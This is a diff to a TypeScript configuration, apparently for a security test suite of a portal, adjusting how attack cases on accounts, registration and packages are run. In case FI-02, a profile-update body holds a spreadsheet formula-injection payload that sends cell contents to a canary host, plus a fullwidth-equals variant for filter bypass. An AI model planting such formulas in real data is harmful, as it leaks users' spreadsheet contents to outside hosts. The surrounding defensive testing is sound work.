@@ -2,10 +2,7 @@ import type { AttackCase } from './case.ts';
 
 /** Cases whose calls are not built yet, by where those calls stand; the lists may only shrink, and a call that answers fails. */
 export const waiting: Readonly<Record<string, readonly string[]>> = {
-  'accounts of the portal': [
-    ...['DX-04', 'MA-03', 'MA-07', 'IU-04', 'IU-05', 'IU-06'],
-    ...['MX-policy-policyuserinfo-submit-other', 'MX-policy-policyuserinfo-submit-anon'],
-  ],
+  'registration on the portal': ['MA-07'],
   'sign-in of the district': ['SE-17', 'SE-18'],
   'favourites and subscriptions': [
     ...['PL-02', 'MA-05', 'MA-06', 'IU-10', 'IU-11', 'IU-13'],
@@ -23,12 +20,23 @@ export const contradicted: Readonly<Record<string, string>> = {
 export const otherwiseAsked: Readonly<
   Record<
     string,
-    Partial<Pick<AttackCase, 'as' | 'method' | 'path' | 'query' | 'body' | 'then'>> & { because: string }
+    Partial<Pick<AttackCase, 'as' | 'method' | 'path' | 'query' | 'body' | 'setup' | 'then'>> & {
+      because: string;
+    }
   >
 > = {
   'FX-01': { as: 'platform', because: 'packages are the platform administrator’s: another is refused first' },
   'FX-02': { as: 'platform', because: 'packages are the platform administrator’s: another is refused first' },
   'UN-06': { as: 'platform', because: 'packages are the platform administrator’s: another is refused first' },
+  'DX-04': {
+    setup: [
+      {
+        ...{ as: 'tenant-admin', method: 'POST' },
+        path: '/api/policy/policyuserinfo/accountDisabled?id={{self.policyUserId}}',
+      },
+    ],
+    because: 'the id of a policy user is that of the membership and not of the account',
+  },
   'FI-02': {
     path: '/api/blade-user/update-info',
     body: { realName: '=HYPERLINK("http://{{canary}}?"&A1,"x")', name: '＝1+1\t=1+1' },
